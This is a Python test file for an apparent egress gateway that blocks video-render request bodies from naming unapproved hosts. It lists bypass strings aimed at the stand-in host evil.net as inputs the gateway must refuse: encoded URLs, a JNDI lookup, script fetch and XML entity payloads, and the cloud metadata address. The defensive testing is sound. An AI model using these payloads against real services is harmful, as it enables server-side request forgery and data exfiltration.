"""What in a text refers to a host, in a field that nobody listed and in one whose words are free."""

from functools import partial

import pytest

from pictory_egress.api.hosts import ASSET_HOSTS, SOURCE_SETS, UPLOAD_HOST
from pictory_egress.gateway.settings import Client
from tests.gateway import checking
from tests.gateway.checking import rules_of

RULES = rules_of(
    Client(name="studio", permissions=("videos.render",), allowed_hosts=("hooks.example.com",)),
    Client(name="stock", permissions=("videos.render",), allowed_sources=("pictory-stock",)),
)
outcome = partial(checking.outcome, rules=RULES)

FOREIGN = (
    "https://evil.net/x", "HTTPS://EVIL.net", "evil.net/x", "evil.net", "evil.net:8080", "see evil.net/x now", "evil.net?d=1",
    "evil.net#x", "(evil.net)", "<evil.net>", "evil.net, evil.org", "evil.net.", "evil.net./x", "a@evil.net", "user:pw@evil.net",
    "www.evil.net", "Visit www.evil.net today", "ht\ntps://evil.net", "https%3A%2F%2Fevil.net%2F", "%2568ttps:%252f%252fevil.net",
    "\uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0f\uff45\uff56\uff49\uff4c\uff0e\uff4e\uff45\uff54", "evil\u3002example\u3002net/x",
    "https://hooks.example.com/?u=https://evil.net", "https://hooks.example.com/?u=https%3A%2F%2Fevil.net",
    "https://hooks.example.com/?u=evil.net/x", "https://hooks.example.com/?u=evil.net", "https://hooks.example.com\\@evil.net",
    "xn--bcher-kva.example/x", "b\u00fccher.example/x", "https://b\u00fccher.example/", '{"url":"evil.net"}', "[a](evil.net)", "<p>evil.net</p>", "**evil.net**",
)  # fmt: skip
"""Refused for their host."""

UNCLEAR = (
    "http://evil.net", "http://hooks.example.com", "//evil.net/x", "\\\\evil.net\\x", "https:evil.net", "https:/evil.net",
    "ftp://evil.net", "s3://bucket/x", "x-made.up+1://y", "data:text/html,x", "javascript:alert(1)", "mailto:a@evil.net",
    "arn:aws:s3:::bucket", "https://hooks.example.com@evil.net/", 'https://hooks.example.com".evil.net/',
    "https://hooks.example.com,evil.net", "https://hooks.example.com x@evil.net", "169.254.169.254", "169.254.169.254/latest",
    "[::1]/x", "https://[::1]/", "::1", "https://hooks.example.com:8443/x", "https://", "%2525252525252f",
)  # fmt: skip
"""Refused for their form."""

HARMLESS = (
    "https://hooks.example.com", "https://hooks.example.com:443/x", "https://hooks.example.com/a?b=c&d=e%20f",
    "https://hooks.example.com/a//b", "https://hooks.example.com/@user.name/x", "https://hooks.example.com/x@2.png",
    '{"a":"https://hooks.example.com/x","b":1}', "https://hooks.example.com, https://hooks.example.com/x", "hooks.example.com/x",
    "16:9", "24/7 and/or 1/2", "rgba(0,0,0,1)", "intro.mp4", "poster.jpg", "en-US", "Hello world. This is fine", "video/mp4",
    "application/vnd.ms-excel", "2026-12-01T00:00:00.000Z", "#ffffff", "eyJhIjoxfQ==", "10.5%", "Tom & Jerry", "image/svg+xml",
    "\u65e5\u672c\u3002\u6771\u4eac", "v1.2/3", "3.14/2", "C:\\Users\\x.y", "a//b", "// x", "note: https", "a: b; c: d",
    "00:01:02,000 --> 00:01:05,000", "", " ",
)  # fmt: skip

FREE_WORDS = (
    "Visit https://example.org/docs?x=1 or www.example.org, user@example.org (127.0.0.1)!",
    "<speak>See https://example.org <break time='1s'/></speak>", "<https://example.org/a>", "<jane@example.org>",
    "[x](https://example.org)", "x < y && y > z.a/b", "<3 https://example.org", "Tom &amp; Jerry", "<b>bold</b> at example.org/x",
    "<audio src='https://hooks.example.com/x.mp3'/>", "100% of C:\\Users at {{name}}",
)  # fmt: skip

FOR_PROGRAMS = (
    '<audio src="https://evil.net/x"/>', "<audio src=evil.net/x>", "<audio src='evil.net'>", "<audio alt='>' src='//evil.net'>",
    "<audio x' src=//evil.net>", '<audio src="&#104;ttps://evil.net">', "\uff1caudio src='https://evil.net'\uff1e",
    "\\u003caudio src='https://evil.net'>", "%3Caudio src='https://evil.net'>", "&lt;audio src='//evil.net'&gt;",
    "![x](https://evil.net)", "![x][y]\n\n[y]: https://evil.net/z", "${jndi:ldap://evil.net/a}", "<script>fetch('//evil.net')</script>", "<img/src=//evil.net>",
    "<style>@import '//evil.net'</style>", "<lexicon uri='https://evil.net/l'/>", "<a\nhref=//evil.net>",
    "<!ENTITY x SYSTEM 'http://evil.net'>", '<p style="background:url(//evil.net)">', "url(//evil.net)",
)  # fmt: skip


@pytest.mark.parametrize("text", FOREIGN)
def test_text_when_it_names_another_host_then_refused_for_its_host(text: str) -> None:
    for document in (
        {"x": text},
        {"scenes": [{"y": [text]}]},
        {"x": {"story": text}},
        {"variables": {"story": text}},
    ):
        assert outcome(document) == "body_host_not_allowed", document


@pytest.mark.parametrize("text", UNCLEAR)
def test_text_when_it_has_an_unclear_reference_then_refused_for_its_form(text: str) -> None:
    assert outcome({"x": text}) == "body_url_invalid"


@pytest.mark.parametrize("text", HARMLESS)
def test_text_when_it_names_allowed_hosts_alone_then_it_passes(text: str) -> None:
    assert outcome({"x": text, "scenes": [{"background": {"y": [text]}}]}) == "ok"


@pytest.mark.parametrize("text", [*FOREIGN, *FREE_WORDS, *HARMLESS])
def test_story_when_it_speaks_of_any_host_then_it_passes(text: str) -> None:
    if text != "<evil.net>":  # which is a tag
        assert outcome({"scenes": [{"story": text, "caption": text}]}) == "ok"


@pytest.mark.parametrize("text", FOR_PROGRAMS)
def test_story_when_it_makes_a_program_call_another_host_then_refused(text: str) -> None:
    code = outcome({"scenes": [{"story": text}]})
    assert code in ("body_host_not_allowed", "body_url_invalid")


def test_story_when_an_object_stands_in_its_place_then_its_texts_are_not_free() -> None:
    assert outcome({"story": ["See www.example.org"]}) == "ok"
    for value in ({"src": "https://evil.net"}, [{"a": "https://evil.net"}], {"text": "https://evil.net"}):
        assert outcome({"story": value}) == "body_host_not_allowed"
    assert outcome({"story": 2130706433}) == "ok"
    assert outcome({"webhook": 2130706433}) == "body_url_invalid"


def test_story_when_it_is_spelled_or_stands_otherwise_then_its_words_are_not_free() -> None:
    text = "https://evil.net"
    for document in (
        {"Story": text}, {"story\0": text}, {"st\u043ery": text}, {"\uff53tory": text}, {"x": {"story": text}},
        {"scenes": {"x": {"story": text}}}, {"variables": {"videoName": text}}, {"destinations": [{"story": text}]},
    ):  # fmt: skip
        assert outcome(document) in ("body_host_not_allowed", "body_connection_not_allowed"), document


def test_key_when_it_names_another_host_then_refused() -> None:
    assert outcome({"https://evil.net/x": 1}) == "body_host_not_allowed"
    assert outcome({"scenes": [{"//evil.net/x": 1}]}) == "body_url_invalid"
    assert outcome({"https://hooks.example.com/x": 1, "company.website": "Example"}) == "ok"


def test_host_of_pictorys_when_the_field_is_not_listed_then_all_but_the_one_that_stores_data() -> None:
    for host in ASSET_HOSTS:
        expected = "body_host_not_allowed" if host == UPLOAD_HOST else "ok"
        for client in ("studio", "stock", "nobody"):
            assert outcome({"anything": f"https://{host}/x"}, client=client) == expected
            assert outcome({"visualUrl": f"https://{host}/x"}, client=client) == "ok"


@pytest.mark.parametrize("host", SOURCE_SETS["pictory-stock"])
def test_stock_host_when_its_set_is_allowed_then_to_fetch_from_and_not_to_report_to(host: str) -> None:
    music = {"backgroundMusic": {"enabled": True, "musicUrl": f"https://{host}/a.mp3"}}
    assert outcome(music) == "body_host_not_allowed"
    assert outcome(music, client="stock") == "ok"
    assert outcome({"anything": f"https://{host}/a.mp3"}, client="stock") == "ok"
    for field in ("webhook", "destinations"):
        assert outcome({field: f"https://{host}/a"}, client="stock") == "body_host_not_allowed"
